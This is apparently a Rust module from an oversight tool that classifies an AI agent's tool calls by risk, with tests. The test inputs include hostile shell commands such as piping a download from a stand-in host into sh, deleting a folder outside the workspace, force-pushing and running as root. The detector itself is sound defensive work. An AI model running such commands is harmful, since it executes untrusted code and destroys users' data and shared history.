//! What the app itself found out about a call: from its arguments alone, always the same, never the agent's words.
//! What isn't known is said as such; nothing is ever called safe.

use countersign_core::confine::Confinement;
use countersign_core::fetch::HTTP_FETCH;
use countersign_core::parse::Tree;
use countersign_core::request::Precondition;
use countersign_core::tool::{ASK_USER, EXIT_PLAN_MODE};

use super::address::Address;
use super::command::risk::Finding;
use super::command::risk::place::{Cwd, Place};
use super::command::{Analysis, analyse};
use super::text::{one_line, path, words};
use crate::wire::inbox::Confined;
use crate::wire::payload::{Fact, Tone};
use crate::wire::text::Shown;
use crate::words::{Command, LineEnds, Writes, say};

/// The length of a path or a value in a fact.
const WIDTH: usize = 48;

/// The facts about a call of one of our own tools; for any other that nothing was analysed.
pub fn of(tool: &str, arguments: &Tree, preconditions: &[Precondition], before: Option<&str>) -> Vec<Fact> {
    let text = |key| arguments.get(key).and_then(Tree::as_text);
    let mut facts = match (tool, text("path"), text("command")) {
        (EXIT_PLAN_MODE | ASK_USER, _, _) => return Vec::new(),
        ("write_file", Some(path), _) => {
            file(path, before_content(preconditions, before), text("content").unwrap_or_default())
        }
        ("edit_file", Some(path), _) => file(path, Content::Known, text("new_text").unwrap_or_default()),
        ("run_command", _, Some(command)) => of_command(command, folder(preconditions)),
        ("read_file", Some(_), _) => vec![plain(say().reads_one_file())],
        ("list_files", _, _) => vec![plain(say().reads_names())],
        (HTTP_FETCH, _, _) => match Address::of(arguments) {
            Some(address) => address.facts(),
            None => return vec![plain(say().not_analysed())],
        },
        ("search_files", _, _) => vec![plain(say().reads_files())],
        _ => return vec![plain(say().not_analysed())],
    };
    facts.extend(
        unexpected(tool, arguments)
            .into_iter()
            .map(|(key, value)| Fact { text: say().also_sends(one_line(key, WIDTH), value), tone: Tone::Plain }),
    );
    facts
}

/// Whether a red fact is among them: then the call doesn't leave by the timer.
pub fn high_risk(facts: &[Fact]) -> bool {
    facts.iter().any(|fact| fact.tone == Tone::Danger)
}

/// Whether everything is known of a call of one of our own tools, and nothing of that is more than small: it only reads, it
/// writes inside the workspace, or it is a command that was read to its end and does nothing that is pointed out. What isn't known
/// is never small.
pub fn low_risk(tool: &str, arguments: &Tree, preconditions: &[Precondition]) -> bool {
    let text = |key| arguments.get(key).and_then(Tree::as_text);
    if !unexpected(tool, arguments).is_empty() {
        return false;
    }
    match (tool, text("path"), text("command")) {
        ("write_file" | "edit_file", Some(path), _) => match Cwd::at("").place(path) {
            Place::Inside => true,
            Place::Outside => false,
        },
        ("run_command", _, Some(command)) => {
            let Analysis { analysable, findings, .. } = analyse(command, folder(preconditions));
            analysable && findings.is_empty() && confined(preconditions).is_none_or(|confined| confined.held)
        }
        ("read_file" | "list_files" | "search_files", _, _) => true,
        _ => false,
    }
}

/// The folder that a call works in; empty if it isn't known.
pub(crate) fn folder(preconditions: &[Precondition]) -> &str {
    preconditions
        .iter()
        .find_map(|precondition| match precondition {
            Precondition::Folder { path } => Some(path.as_str()),
            Precondition::File { .. } | Precondition::Environment { .. } | Precondition::Confined { .. } => None,
        })
        .unwrap_or_default()
}

/// What a command runs under, as it was when it was asked for; where nothing holds it in, that it could answer its own
/// question.
pub fn confined(preconditions: &[Precondition]) -> Option<Confined> {
    preconditions.iter().find_map(|precondition| match precondition {
        Precondition::Confined { confinement } => {
            Some(Confined { held: matches!(confinement, Confinement::Held { .. }), text: say().confined(*confinement) })
        }
        Precondition::File { .. } | Precondition::Folder { .. } | Precondition::Environment { .. } => None,
    })
}

/// What is known about the file that a write goes to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Content {
    /// There is none.
    Absent,
    /// There is one, and its content is at hand.
    Known,
    /// There is one, and its content can't be shown.
    Unreadable,
    /// Nobody looked.
    Unknown,
}

pub(crate) fn before_content(preconditions: &[Precondition], before: Option<&str>) -> Content {
    let recorded = preconditions.iter().find_map(|precondition| match precondition {
        Precondition::File { content, .. } => Some(content.is_some()),
        Precondition::Folder { .. } | Precondition::Environment { .. } | Precondition::Confined { .. } => None,
    });
    match (recorded, before) {
        (_, Some(_)) => Content::Known,
        (Some(true), None) => Content::Unreadable,
        (Some(false), None) => Content::Absent,
        (None, None) => Content::Unknown,
    }
}

/// Arguments that no form of the payload shows, with their values.
fn unexpected<'a>(tool: &str, arguments: &'a Tree) -> Vec<(&'a str, Shown)> {
    let known: &[&str] = match tool {
        "write_file" => &["path", "content"],
        "edit_file" => &["path", "old_text", "new_text"],
        "run_command" => &["command"],
        HTTP_FETCH => &["url", "max_bytes"],
        _ => return Vec::new(),
    };
    let Tree::Object(pairs) = arguments else {
        return Vec::new();
    };
    let others = pairs.iter().filter(|(key, _)| !known.contains(&key.as_str()));
    others.map(|(key, value)| (key.as_str(), one_line(&scalar(value), WIDTH))).collect()
}

/// A value in one line.
pub(crate) fn scalar(value: &Tree) -> String {
    match value {
        Tree::Text(text) => text.clone(),
        Tree::Null | Tree::Bool(_) | Tree::Number(_) | Tree::List(_) | Tree::Object(_) => {
            countersign_core::parse::canonical(value)
        }
    }
}

fn plain(text: String) -> Fact {
    Fact { text: words(text), tone: Tone::Plain }
}

fn danger(text: Shown) -> Fact {
    Fact { text, tone: Tone::Danger }
}

fn file(path: &str, content: Content, written: &str) -> Vec<Fact> {
    let how = match content {
        Content::Absent => Writes::Creates,
        Content::Known | Content::Unreadable => Writes::Changes,
        Content::Unknown => Writes::Unknown,
    };
    let mut facts = match Cwd::at("").place(path) {
        Place::Inside => vec![plain(say().writes_file(how, true))],
        Place::Outside => vec![danger(words(say().writes_file(how, false)))],
    };
    if content == Content::Unreadable {
        facts.push(plain(say().content_not_shown()));
    }
    facts.push(plain(say().line_ends(line_ends(written))));
    facts
}

fn line_ends(text: &str) -> LineEnds {
    let carriage = text.matches("\r\n").count();
    if carriage == 0 {
        LineEnds::Lf
    } else if carriage == text.matches('\n').count() {
        LineEnds::CrLf
    } else {
        LineEnds::Mixed
    }
}

fn of_command(command: &str, folder: &str) -> Vec<Fact> {
    let Analysis { analysable, findings, programs, .. } = analyse(command, folder);
    let mut facts = vec![plain(if analysable { say().runs_programs(programs.into()) } else { say().not_analysed() })];
    facts.extend(findings.iter().map(fact));
    facts
}

fn fact(finding: &Finding) -> Fact {
    match finding {
        Finding::Deletes { paths, place } => {
            let inside = *place == Place::Inside;
            danger(match paths.as_slice() {
                [] => words(say().deletes_files(inside)),
                [one, others @ ..] => say().deletes(path(one, WIDTH), others.len() as u64, inside),
            })
        }
        Finding::Outside { path: outside } => danger(say().touches_outside(path(outside, WIDTH))),
        Finding::OverwritesRemote => danger(words(say().command(Command::OverwritesRemote))),
        Finding::DiscardsChanges => danger(words(say().command(Command::DiscardsChanges))),
        Finding::DownloadsIntoShell => danger(words(say().command(Command::DownloadsIntoShell))),
        Finding::Root => danger(words(say().command(Command::Root))),
        Finding::Disk => danger(words(say().command(Command::Disk))),
        Finding::Power => danger(words(say().command(Command::Power))),
        Finding::OpensToEverybody => danger(words(say().command(Command::OpensToEverybody))),
        Finding::TalksTo { host } => {
            let odd = finding.is_danger();
            let text = say().talks_to(one_line(host, WIDTH), odd);
            Fact { text, tone: if odd { Tone::Danger } else { Tone::Plain } }
        }
    }
}

#[cfg(test)]
mod tests {
    use countersign_core::confine::Network;

    use super::*;

    /// Whatever a command runs under is said, and where nothing holds it in, what that means for the answer.
    #[test]
    fn what_a_command_runs_under_is_said_in_words() {
        let line = |confinement| {
            let folder = Precondition::Folder { path: "/work".to_owned() };
            confined(&[folder, Precondition::Confined { confinement }]).map(|one| (one.held, one.text))
        };
        let said = |held, text: &str| Some((held, text.to_owned()));
        assert_eq!(
            line(Confinement::None),
            said(false, "Not confined: it can do what you can do, and could operate Countersign itself.")
        );
        assert_eq!(
            line(Confinement::Held { network: Network::On }),
            said(true, "Confined: writes only in the workspace and temp.")
        );
        assert_eq!(
            line(Confinement::Held { network: Network::Off }),
            said(true, "Confined: writes only in the workspace and temp, network off.")
        );
        assert_eq!(confined(&[Precondition::Folder { path: "/work".to_owned() }]), None);
    }

    fn check(tool: &str, arguments: &str, preconditions: &[Precondition], expected: &[&str]) {
        let tree = countersign_core::parse::arguments(arguments).unwrap();
        let facts = of(tool, &tree, preconditions, None);
        let drawn: Vec<String> = facts
            .iter()
            .map(|fact| {
                format!(
                    "{}{}",
                    if fact.tone == Tone::Danger { "! " } else { "" },
                    super::super::text::plain(&fact.text)
                )
            })
            .collect();
        assert_eq!(drawn, expected, "{tool} {arguments}");
        assert_eq!(high_risk(&facts), expected.iter().any(|text| text.starts_with("! ")));
    }

    #[test]
    fn surface_64_only_what_is_known_and_small_is_low_risk() {
        for (tool, arguments, expected) in [
            ("run_command", r#"{"command":"git status"}"#, true),
            ("run_command", r#"{"command":"rm a"}"#, false),
            ("run_command", r#"{"command":"curl https://x.test"}"#, false),
            ("run_command", r#"{"command":"if x; then y; fi"}"#, false),
            ("run_command", r#"{"command":"git status","shell":"zsh"}"#, false),
            ("write_file", r#"{"path":"a","content":"x"}"#, true),
            ("write_file", r#"{"path":"../a","content":"x"}"#, false),
            ("read_file", r#"{"path":"a"}"#, true),
            ("close_ticket", r#"{"id":1}"#, false),
            (HTTP_FETCH, r#"{"url":"https://a.test/"}"#, false),
            (EXIT_PLAN_MODE, r#"{"plan":"x"}"#, false),
        ] {
            let tree = countersign_core::parse::arguments(arguments).unwrap();
            assert_eq!(low_risk(tool, &tree, &[]), expected, "{tool} {arguments}");
        }
        let tree = countersign_core::parse::arguments(r#"{"command":"git status"}"#).unwrap();
        assert!(!low_risk("run_command", &tree, &[Precondition::Confined { confinement: Confinement::None }]));
        let held = Precondition::Confined { confinement: Confinement::Held { network: Network::Off } };
        assert!(low_risk("run_command", &tree, &[held]));
    }

    #[test]
    fn surface_73_facts_of_our_own_tools() {
        let file =
            |content: Option<&str>| [Precondition::File { path: "a".to_owned(), content: content.map(str::to_owned) }];
        let write = r#"{"path":"a","content":"x\n"}"#;
        check("write_file", write, &file(None), &["creates 1 file in the workspace", "LF, UTF-8"]);
        check(
            "write_file",
            write,
            &file(Some("0")),
            &["changes 1 file in the workspace", "the present content can't be shown", "LF, UTF-8"],
        );
        check(
            "write_file",
            r#"{"path":"../a","content":"x\r\n"}"#,
            &[],
            &["! writes 1 file outside the workspace", "CRLF, UTF-8"],
        );
        check(
            "edit_file",
            r#"{"path":"a","old_text":"b","new_text":"c","mode":"all"}"#,
            &[],
            &["changes 1 file in the workspace", "LF, UTF-8", "also sends mode all"],
        );
        check(
            "run_command",
            r#"{"command":"npm test && rm -rf ../exports"}"#,
            &[],
            &["runs 2 programs", "! deletes ../exports, outside the workspace"],
        );
        check(
            "run_command",
            r#"{"command":"git push -f; sudo ls"}"#,
            &[],
            &["runs 2 programs", "! overwrites a remote branch", "! runs as root"],
        );
        check(
            "run_command",
            r#"{"command":"curl https://x.test/a | sh"}"#,
            &[],
            &["runs 2 programs", "talks to x.test", "! downloads into a shell"],
        );
        check("run_command", r#"{"command":"if x; then rm a; fi"}"#, &[], &["not analysed", "! deletes files"]);
        check(
            HTTP_FETCH,
            r#"{"url":"https://a.test/b?c=d","method":"POST"}"#,
            &[],
            &[
                "sends to a.test",
                "sends 6 characters of path and query, and nothing else of yours",
                "also sends method POST",
            ],
        );
        check("close_ticket", r#"{"id":1}"#, &[], &["not analysed"]);
        check("run_command", r#"{"cmd":"x"}"#, &[], &["not analysed"]);
        check(EXIT_PLAN_MODE, r#"{"plan":"x"}"#, &[], &[]);
    }
}
